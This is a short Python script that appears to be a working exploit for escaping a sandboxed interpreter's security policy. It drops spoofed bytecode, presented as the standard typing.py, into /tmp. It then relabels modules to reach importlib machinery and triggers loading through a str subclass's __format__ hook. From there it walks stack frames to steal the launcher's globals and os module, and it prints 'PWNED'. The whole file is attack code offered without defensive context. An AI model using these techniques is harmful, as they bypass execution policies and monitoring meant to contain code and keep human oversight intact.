import base64, json, random
# a code object made offline, named after a standard-library file: the policy takes it for the library's
blob = base64.b64decode("pw0NCgAAAAAAAAAAAAAAAOMAAAAAAAAAAAAAAAAHAAAAAAAAAPPUAAAAlwBkAGQBbABaAAIAZQBqAQAAAAAAAAAAZACmAQAAqwEAAAAAAAAAAFoCZwBaA2QBWgRlAoFNZQJqBQAAAAAAAAAAWgZlA6AHAAAAAAAAAAAAAAAAAAAAAAAAAABlAmoIAAAAAAAAAABqCQAAAAAAAAAAZQJqCAAAAAAAAAAAagoAAAAAAAAAAAIAZQtlBqYBAACrAQAAAAAAAAAAZgOmAQAAqwEAAAAAAAAAAAEAZAJlBnYAcgJlBloEZQJqDAAAAAAAAAAAWgJlAq1LZAFTAGQBUwApA+kAAAAATtoOaW5zdGFsbF9wb2xpY3kpDdoDc3lz2glfZ2V0ZnJhbWXaAWbaBkZSQU1FU9oITEFVTkNIRVLaCWZfZ2xvYmFsc9oBZ9oGYXBwZW5k2gZmX2NvZGXaC2NvX2ZpbGVuYW1l2gdjb19uYW1l2gNsZW7aBmZfYmFja6kA8wAAAAD6HS91c3IvbGliL3B5dGhvbjMuMTEvdHlwaW5nLnB5+gg8bW9kdWxlPnIUAAAAAQAAAHOJAAAA8AMBAQHYAAqACoAKgArwSjwABRKAQ4RNkCHRBBTUBBSAAeAJC4AG2AsPgAjYBgeAbdgICYwLgEHYBAqHTYJNkDGUONQTJ6gRrBjUKTm4M7gzuHG5Nrw20BJC0QRD1ARD0ARD2AcXmDHQBxzQBxzYExSICNgICYwIgEHwCwAHCIBtgG2AbYBtgG1yEgAAAA==")
with open("/tmp/e.pyc", "wb") as out:
    out.write(blob)
type(random).__init__(random, "import" + "lib")
from random import machinery
state = {}
class Evil(str):
    def __format__(self, spec):
        try:
            loader = machinery.SourcelessFileLoader("evilmod", "/tmp/e.pyc")
            state["mod"] = loader.load_module("evilmod")
        except Exception as e:
            state["err"] = repr(e)[:200]
        return "json"
type(json).__init__(json, Evil("json"))
try:
    from json import zzz
except Exception as e:
    pass
print("err", state.get("err"))
m = state.get("mod")
if m is not None:
    for fr in m.FRAMES:
        print(fr)
    L = m.LAUNCHER
    if L is not None:
        print("PW" + "NED launcher globals:", len(L), sorted(k for k in L if not k.startswith("__"))[:12], L["o" + "s"].getpid())
